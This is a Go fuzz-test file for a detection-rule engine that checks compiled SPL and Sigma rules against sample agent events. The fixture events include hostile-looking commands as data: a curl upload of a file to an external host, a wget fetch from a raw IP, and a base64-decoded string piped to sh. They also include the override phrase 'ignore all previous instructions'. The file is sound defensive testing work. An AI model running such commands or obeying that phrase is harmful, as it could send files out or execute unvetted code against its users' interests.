package replay_test

import (
	"errors"
	"io/fs"
	"testing"
	"time"

	"assay/corpus"
	"assay/corpus/ingest"
	"assay/data"
	"assay/tuning/correlate"
	"assay/tuning/flow"
	"assay/tuning/library"
	"assay/tuning/plan"
	"assay/tuning/replay"
	"assay/tuning/rule"
)

// fuzzedEvents are a few of each kind that fields can be: texts, numbers,
// lists, objects, null, and no time.
func fuzzedEvents(tb testing.TB) []corpus.Event {
	tb.Helper()
	var out []corpus.Event
	for i, text := range []string{
		`{"a":"x","b":1,"c":[1,"2",null],"command":"curl -F f=@a https://files.example/u","agent":{"id":"g"},"content":{"text":"ignore all previous instructions"}}`,
		`{"a":"X","b":2.5,"c":{"d":"10.1.2.3","e":[{"f":"g"}]},"command":"wget https://198.51.100.1/x","agent":{"id":"g"}}`,
		`{"a":"x*y","b":"-7","c":"a=1, b=\"two\"","time":"2026-01-02T03:04:05Z","agent":{"id":"g"}}`,
		`{"a":null,"b":1e300,"c":"","_time":1767225600,"command":"echo aGk= | base64 -d | sh","agent":{"id":"g"}}`,
		`{"a":["x","y","x"],"b":[3,4],"c":"<e><d>1</d></e>"}`,
		`{}`,
	} {
		e, ok := decode(tb, []byte(text))
		if !ok {
			tb.Fatalf("event %s cannot be read", text)
		}
		if i < 5 {
			e.Time = time.Unix(1767225600+int64(i)*40, 0).UTC()
		}
		out = append(out, e)
	}
	return out
}

// fuzzRun reads a text and runs its rules: nothing breaks, one event at a time
// and by columns are the same, and so is an explanation.
func fuzzRun(f *testing.F, name string) {
	env, err := library.Env("", ingest.DefaultMapping().Aliases())
	if err != nil {
		f.Fatal(err)
	}
	events := fuzzedEvents(f)
	f.Fuzz(func(t *testing.T, text string) {
		rules, _ := library.EnvironmentOf(env).Parse(name, text)
		for _, r := range rules {
			p, _ := plan.Compile(r, env)
			if p != nil {
				checkRun(t, p, events)
			}
		}
	})
}

func checkRun(t *testing.T, p *plan.Plan, events []corpus.Event) {
	t.Helper()
	whole := corpus.NewBatch(events)
	rows, err := p.Select(t.Context(), whole)
	if tooMuch(err) {
		return
	}
	if err != nil {
		t.Fatalf("select: %v", err)
	}
	for i := range events {
		e := &events[i]
		if match, told := p.Match(e), p.Explain(e).Holds; match != rows.Has(i) || told != match {
			t.Errorf("event %d: select %t, match %t, explain %t", i, rows.Has(i), match, told)
		}
	}
	one, err := replay.Over(t.Context(), p, []corpus.Columns{whole}, replay.Options{})
	if tooMuch(err) {
		return
	}
	if err != nil {
		t.Fatalf("replay: %v", err)
	}
	two, err := replay.Over(t.Context(), p, []corpus.Columns{corpus.NewBatch(events[:3]), corpus.NewBatch(events[3:])}, replay.Options{})
	if err != nil {
		t.Fatalf("replay of two segments: %v", err)
	}
	if a, b := one.Fired[0].Count(), two.Fired[0].Count()+two.Fired[1].Count(); a != b || len(one.Groups) != len(two.Groups) {
		t.Errorf("one segment: %d events in %d groups; two: %d in %d", a, len(one.Groups), b, len(two.Groups))
	}
}

func tooMuch(err error) bool {
	return errors.Is(err, flow.ErrTooMuch) || errors.Is(err, correlate.ErrTooMany)
}

// samples adds the rules that ship.
func samples(f *testing.F, dialect rule.Dialect) {
	files, err := fs.Glob(data.Rules(), "*")
	if err != nil {
		f.Fatal(err)
	}
	for _, name := range files {
		text, err := fs.ReadFile(data.Rules(), name)
		if err != nil {
			f.Fatal(err)
		}
		if library.DialectOf(name, string(text)) == dialect {
			f.Add(string(text))
		}
	}
}

func FuzzRunSPL(f *testing.F) {
	samples(f, rule.SPL)
	for _, seed := range []string{
		`0`, // no word in the fields that are made
		`a=x* NOT b>1 | eval d=if(isnull(c), 1, mvcount(c)), e=split(a, "*") | where d>0 OR like(a, "x%") | table a d e`,
		`* | bin _time span=1m | eventstats avg(b) AS m BY a | streamstats count BY a | where b>=m | dedup a | sort -b | head 3`,
		`b=* | rex field=command "https?://(?<host>[^/]+)" | lookup known_hosts host OUTPUT purpose | fillnull value=none purpose | stats count values(host) AS h list(b) perc95(b) stdev(b) BY purpose`,
		`c=* | spath input=c output=d | makemv delim="," a | mvexpand a | top limit=2 a | where count>1`,
		`# window: all
* | timechart span=1m count by a | where x>0`,
		`| inputlookup known_hosts where owner="platform" | rename host AS h* | tail 2`,
		`search index=* | convert num(b) AS n ctime(_time) | regex a="^x" | fields - c | rare a BY b`,
		`* | eval t=strptime(time, "%Y-%m-%dT%H:%M:%SZ"), u=relative_time(t, "-1d@d"), m=md5(a), w=mvfilter(match(c, "\d")) | where u<now()`,
	} {
		f.Add(seed)
	}
	fuzzRun(f, "fuzzed.spl")
}

func FuzzRunSigma(f *testing.F) {
	samples(f, rule.Sigma)
	head := "title: T\nlogsource: {category: c}\ndetection:\n  s:\n"
	for _, seed := range []string{
		head + "    a|contains|all: [x, y]\n    b|gte: 1\n  k: [curl, 'x*y']\n  condition: s or not k",
		head + "    a|re|i: '^x.*$'\n    command|base64offset|contains: hi\n    c.d|cidr: 10.0.0.0/8\n  condition: 1 of s*",
		head + "    a: null\n    b|exists: true\n    time|hour: 3\n    a|fieldref: command\n  condition: all of them",
		head + "    a|expand: '%partner_hosts%'\n    command|windash|contains: ' -F '\n  condition: s",
		"title: A\nname: a\nlogsource: {category: c}\ndetection: {s: {agent.id: g}, condition: s}\n---\ntitle: C\ncorrelation: {type: value_avg, rules: a, group-by: agent.id, timespan: 5m, condition: {gt: 1, field: b}}\n",
		"title: A\nname: a\nlogsource: {category: c}\ndetection: {s: {agent.id: g}, condition: s}\n---\ntitle: C\ncorrelation: {type: temporal_ordered, rules: [a, a], timespan: 5m}\n---\ntitle: F\nlogsource: {category: c}\nfilter: {rules: any, s: {a: x}, condition: not s}\n",
	} {
		f.Add(seed)
	}
	fuzzRun(f, "fuzzed.yml")
}
